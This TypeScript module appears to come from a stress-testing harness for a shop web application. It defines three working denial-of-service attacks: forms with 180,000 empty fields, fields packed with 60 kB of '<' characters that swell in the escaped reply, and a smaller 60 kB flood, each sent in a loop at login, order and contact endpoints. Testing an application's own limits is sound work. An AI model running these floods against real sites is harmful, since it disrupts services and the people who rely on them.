/** Forms of nothing but names. */
import { type Attack, keepSending, postForm } from "./attack.ts";

const NAMES = Array.from({ length: 180_000 }, (_, index) => `${index.toString(36)}=`).join("&");
/** What a limit on bytes lets through. */
const FEWER_NAMES = NAMES.slice(0, 60_000);
const FIELDS = [
  ["/contact", "name", "phone", "subject", "message"],
  ["/register", "name", "email", "address.city", "address.streetAddress"],
  ["/chat", "message"],
];
/** Forms that anybody may send. */
export const FORM_PATHS = ["/login", "/register", "/order/new", "/chat", "/feedback", "/contact"];
const PATHS = [...FORM_PATHS, "/login.data"];

export const manyFields: Attack = {
  name: "forms of 180,000 fields",
  run: (shop, until) =>
    keepSending(2, until, (count) =>
      postForm(shop, PATHS[count % PATHS.length] ?? "/login", NAMES, until),
    ),
};

/** A few fields of letters that take ten times their size in an answer. */
export const grownFields: Attack = {
  name: "60 kB of < in the fields of a form",
  run: (shop, until) =>
    keepSending(4, until, (count) => {
      const [path = "", ...fields] = FIELDS[count % FIELDS.length] ?? [];
      const letters = "<".repeat(60_000 / fields.length);
      return postForm(shop, path, fields.map((name) => `${name}=${letters}`).join("&"), until);
    }),
};

export const fewerFields: Attack = {
  name: "forms of 60 kB of fields",
  run: (shop, until) =>
    keepSending(2, until, (count) =>
      postForm(shop, PATHS[count % PATHS.length] ?? "/login", FEWER_NAMES, until),
    ),
};
